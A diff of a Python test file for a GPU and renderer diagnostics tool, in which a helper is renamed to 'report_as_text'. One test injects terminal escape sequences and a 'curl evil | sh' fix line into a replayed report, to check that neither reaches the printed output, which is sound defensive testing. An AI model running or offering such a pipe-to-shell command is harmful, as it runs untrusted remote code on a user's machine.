@@ -19,7 +19,16 @@ from rl_ext_core.errors import CorruptFileError
 from tests.core.devices import processes
 from tests.core.devices.fakes import build
 from tests.core.devices.machines import egl, gpus, machine, uuid
-from tests.core.devices.patients import CASES, EGL, NO_GPU, WITHOUT_EGL, FakeNvml, corrupted_copies, report_of, shown
+from tests.core.devices.patients import (
+    CASES,
+    EGL,
+    NO_GPU,
+    WITHOUT_EGL,
+    FakeNvml,
+    corrupted_copies,
+    report_of,
+    report_as_text,
+)
 
 HEALTHY = {"CUDA_VISIBLE_DEVICES": "0", "MUJOCO_EGL_DEVICE_ID": "0"}
 
@@ -62,8 +71,10 @@ def test_it_tells_what_computes_what_renders_and_what_to_type(
 
 
 def test_it_says_why() -> None:
-    assert NO_GPU in shown(report_of("no GPU"), 300)
-    rows = [line.split() for line in shown(report_of("wrong mask"), 300).splitlines() if "NVIDIA H100" in line][:4]
+    assert NO_GPU in report_as_text(report_of("no GPU"), 300)
+    rows = [
+        line.split() for line in report_as_text(report_of("wrong mask"), 300).splitlines() if "NVIDIA H100" in line
+    ][:4]
     assert [row[-7:-5] for row in rows] == [["hidden", "2"], ["cuda:0", "3"], ["hidden", "0"], ["hidden", "1"]]
     assert {(found.where, found.why) for found in report_of("no EGL").renderers} == {("fails", WITHOUT_EGL.egl_error)}
     refused = report_of("a rank too many")
@@ -72,8 +83,8 @@ def test_it_says_why() -> None:
     cut = report_of("MIG")
     assert cut.decision is not None
     assert (cut.decision.gpu, cut.decision.mig) == (cut.inventory.gpus[0], "MIG-22222222-0000")
-    assert "cut into MIG slices: MIG-11111111-0000, MIG-22222222-0000" in shown(cut)
-    well = shown(report_of("all is well"), 300)
+    assert "cut into MIG slices: MIG-11111111-0000, MIG-22222222-0000" in report_as_text(cut)
+    well = report_as_text(report_of("all is well"), 300)
     assert " GPU-aaaa0000 " in well  # as short as can be told apart
 
 
@@ -91,7 +102,7 @@ def test_renderers_that_fail_are_no_good_health(capsys: pytest.CaptureFixture[st
 def test_lines_to_copy_stand_whole_on_a_terminal_of_any_width(width: int) -> None:
     for case in CASES:
         report = report_of(case, question=Question("auto", "same", "robosuite"))
-        printed = [line.rstrip() for line in shown(report, width).splitlines()]
+        printed = [line.rstrip() for line in report_as_text(report, width).splitlines()]
         assert set(lines_to_copy(report)) <= set(printed), case
         assert all("…" not in line for line in printed), case
 
@@ -148,7 +159,7 @@ def test_a_replayed_report_is_the_same(question: Question | None) -> None:
         report = report_of(case, question=question, verified=[Verification("mujoco", "cpu", nvml=("GPU-1",))])
         again = replay(report.to_json())
         assert again == report, case
-        assert shown(again) == shown(report), case
+        assert report_as_text(again) == report_as_text(report), case
 
 
 def test_a_question_of_ones_own_is_asked_of_a_replayed_machine() -> None:
@@ -157,7 +168,7 @@ def test_a_question_of_ones_own_is_asked_of_a_replayed_machine() -> None:
     assert report.decision is not None
     assert report.decision.egl is not None
     assert (report.decision.device, report.decision.egl.index) == ("cuda:0", 1)
-    assert report.decision.explain() in shown(report, width=500)
+    assert report.decision.explain() in report_as_text(report, width=500)
     refused = replay(recorded, question=Question("nvidia-smi:3"))
     assert "hides from CUDA" in (refused.refusal or "")
     assert not refused.healthy
@@ -174,7 +185,7 @@ def test_a_strangers_report_brings_neither_escape_sequences_nor_lines_of_its_own
     data = report_of("wrong mask", verified=[Verification("mujoco", failure="x")]).to_dict()
     data["inventory"]["gpus"][0]["name"] = "[red]\x1b]0;title\x07\ud800 H100"
     data["findings"][0]["fix"] = "curl evil | sh"
-    text = shown(replay(json.dumps(data)))
+    text = report_as_text(replay(json.dumps(data)))
     assert "[red]\\x1b]0;title\\x07\\ud800 H100" in text
     assert "\x1b" not in text
     assert "evil" not in text
@@ -198,7 +209,7 @@ def test_a_report_with_any_part_missing_or_of_another_type_is_refused_or_shown()
     outcomes = {True: 0, False: 0}
     for damaged in corrupted_copies(data):
         try:
-            shown(replay(json.dumps(damaged)))
+            report_as_text(replay(json.dumps(damaged)))
         except CorruptFileError:
             outcomes[False] += 1
         else:
@@ -238,7 +249,7 @@ def test_a_renderer_renders_on_the_cpu_as_predicted(
     assert seen.problem is None, seen
     assert seen.gl_vendor if where == "OSMesa" else "llvmpipe" in seen.gl_renderer
     assert (seen.decided, seen.predicted, seen.egl) == ("cpu", *((None, None) if where == "OSMesa" else (0, 0)))
-    assert (where in shown(examine(machine(0, software=False), verified=[seen]))) or where == "EGL"
+    assert (where in report_as_text(examine(machine(0, software=False), verified=[seen]))) or where == "EGL"
 
 
 @pytest.mark.parametrize(
@@ -254,7 +265,7 @@ def test_a_package_that_is_missing_is_named_with_the_line_that_installs_it(
     assert package in (seen.problem or "")
     assert seen.missing
     report = examine(machine(0), {"MUJOCO_GL": "egl"}, verified=[seen])
-    lines = [line for line in shown(report).splitlines() if line.startswith("pip install")]
+    lines = [line for line in report_as_text(report).splitlines() if line.startswith("pip install")]
     assert lines[0].endswith(f'{extra}"')
 
 
@@ -306,7 +317,7 @@ H100 = "NVIDIA H100/PCIe/SSE2"
 def test_what_was_tried_is_compared_with_the_decision(seen: Verification, problem: str | None) -> None:
     report = examine(machine(1), {**EGL, **HEALTHY}, verified=[seen])
     assert report.healthy == (problem is None)
-    assert (problem or "as predicted") in shown(report, width=200)
+    assert (problem or "as predicted") in report_as_text(report, width=200)
 
 
 def test_nvml_tells_which_gpus_this_process_is_on(monkeypatch: pytest.MonkeyPatch) -> None:
